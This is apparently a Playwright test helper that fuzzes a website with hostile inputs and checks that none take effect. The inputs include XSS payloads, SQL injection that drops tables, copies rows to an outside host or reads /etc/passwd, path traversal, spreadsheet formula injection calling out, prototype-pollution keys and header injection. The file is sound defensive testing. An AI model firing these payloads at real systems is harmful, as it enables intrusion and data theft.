import fc from 'fast-check';
import { expect, type Page } from '@playwright/test';
import type { Outside } from './site.ts';

/** What a script of a stranger would do: leave a sign on the page, and call home. */
const script = (outside: string) => `window.hurt=1;fetch('${outside}script')`;

/** A text as long as no field needs one, without a place to break it. */
export const endless = 'x'.repeat(100_000);

/**
 * Texts that have broken other sites: each does harm where it is taken for more than text.
 * @param outside the address they would call, with a slash at the end
 */
export function hostileTexts(outside: string): readonly string[] {
	const run = script(outside);
	return [
		// Markup and script.
		`<img src=x onerror="${run}">`,
		`"><svg onload="${run}">`,
		`'><script>${run}</script>`,
		`</title></style></textarea><script>${run}</script>`,
		`--><iframe src="javascript:${run}"></iframe>`,
		`]]><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
		`<a href="javascript:${run}">x</a>`,
		`<link rel=stylesheet href=${outside}style><base href=${outside}>`,
		`<meta http-equiv=refresh content="0;url=${outside}refresh">`,
		`" autofocus onfocus="${run}" x="`,
		`javascript:${run}`,
		`data:text/html,<script>${run}</script>`,
		`{@html '<img src=x onerror=${run}>'}`,
		`\${${run}}{{constructor.constructor('${run}')()}}`,
		`url(${outside}font);}*{background:url(${outside}background)`,
		// SQL.
		`' OR 1=1 --`,
		`OPCAT'; DROP TABLE visits; --`,
		`'; COPY visits TO '${outside}rows'; --`,
		`') UNION ALL SELECT content FROM read_text('/etc/passwd') --`,
		`' || (SELECT count(*) FROM read_csv('${outside}csv')) || '`,
		`"; ATTACH '${outside}base' AS other; INSTALL httpfs; --`,
		// Paths and addresses.
		`../../../../etc/passwd`,
		`..%2f..%2f..%5cdata`,
		`//${outside.replace(/^https?:/, '')}`,
		`${outside}x.json`,
		`KAZ/../../answers/returns/default`,
		`file:///etc/passwd`,
		// Formulas of a spreadsheet.
		`=cmd|' /C calc'!A0`,
		`=HYPERLINK("${outside}cell","x")`,
		`+1+WEBSERVICE("${outside}cell")`,
		`-2+3`,
		`@SUM(1+1)*IMPORTXML("${outside}cell","//a")`,
		`\t=1+1`,
		// Names that an object has.
		`__proto__`,
		`constructor`,
		`hasOwnProperty`,
		`toString`,
		// Characters.
		`\ud800`,
		`a\udc00b`,
		`\u202Etxt.exe\u2066`,
		`\u0000\u0001\u001b[31m\u007f\u0085`,
		`\ufffe\uffff\ufeff`,
		`e${'\u0301'.repeat(60)}`,
		`%`,
		`%E0%A4%A`,
		`%00%0d%0aSet-Cookie: x=1`,
		`&#x3c;script&#x3e;&lt;b&gt;`
	];
}

/**
 * Texts put together from pieces of hostile ones and any characters; the same in each run.
 * @param outside as of `hostileTexts`
 * @param count how many
 */
export function madeTexts(outside: string, count: number): readonly string[] {
	const piece = fc.oneof(
		fc.constantFrom(...hostileTexts(outside)),
		fc.constantFrom('<', '>', '"', "'", '`', '&', '\\', '/', '%', '#', '?', '=', ';', '--', '\n', '${', '}}'),
		fc.string({ unit: 'binary', maxLength: 8 })
	);
	const text = fc.array(piece, { minLength: 1, maxLength: 5 }).map((pieces) => pieces.join(''));
	return fc.sample(text, { seed: 1_984, numRuns: count });
}

/** Names of parameters that would reach into objects, where a query were read into one. */
export const pollutingPairs: readonly (readonly [string, string])[] = [
	['__proto__[hurt]', '1'],
	['__proto__.hurt', '1'],
	['__proto__', '{"hurt":1}'],
	['constructor[prototype][hurt]', '1'],
	['constructor.prototype.hurt', '1'],
	['hasOwnProperty', 'hurt'],
	['toString', 'hurt']
];

/** What is heard of a page while it is fed with hostile texts. */
export interface Watched {
	/** What went wrong: dialogs, errors, refusals of the policy, windows, requests to others. */
	readonly heard: readonly string[];
	/** Checks that nothing did, that the page's own objects are as they were, and that it stands. */
	unharmed(): Promise<void>;
}

declare global {
	interface Window {
		/** A sign that a script of a stranger ran. */
		hurt?: unknown;
		/** The names that all objects and lists had before the page's first script. */
		own?: string;
	}
}

/**
 * Watches a page from its next load on.
 * @param site the address of the site, with a slash at the end
 */
export async function watchForHarm(page: Page, outside: Outside, site: string): Promise<Watched> {
	const heard: string[] = [];
	page.on('dialog', (dialog) => {
		heard.push(`dialog: ${dialog.message()}`);
		void dialog.dismiss();
	});
	page.on('pageerror', ({ message }) => heard.push(message));
	// The policy says in the console what it refused: text that is nothing but text needs no refusal.
	page.on('console', (message) => {
		if (message.type() === 'error') heard.push(`${message.text()} ${message.location().url}`);
	});
	page.context().on('page', (other) => heard.push(`window: ${other.url()}`));
	page.context().on('request', (request) => {
		const url = request.url();
		if (!url.startsWith(site) && !/^(data|blob):/.test(url)) heard.push(`request: ${url}`);
	});
	await page.addInitScript(() => {
		window.own = [Object.prototype, Array.prototype].flatMap((one) => Object.getOwnPropertyNames(one)).join();
	});
	return {
		heard,
		async unharmed() {
			await expect(page.locator('h1').first()).toBeVisible();
			const found = await page.evaluate(() => ({
				hurt: 'hurt' in window || 'hurt' in {},
				own: [Object.prototype, Array.prototype].flatMap((one) => Object.getOwnPropertyNames(one)).join(),
				before: window.own,
				strangers: document.querySelectorAll('main :is(script, iframe, object, embed, base, meta, link)')
					.length,
				wider: document.documentElement.scrollWidth - document.documentElement.clientWidth
			}));
			expect(heard).toEqual([]);
			expect(outside.seen).toEqual([]);
			expect(found).toEqual({ hurt: false, own: found.before, before: found.own, strangers: 0, wider: 0 });
		}
	};
}
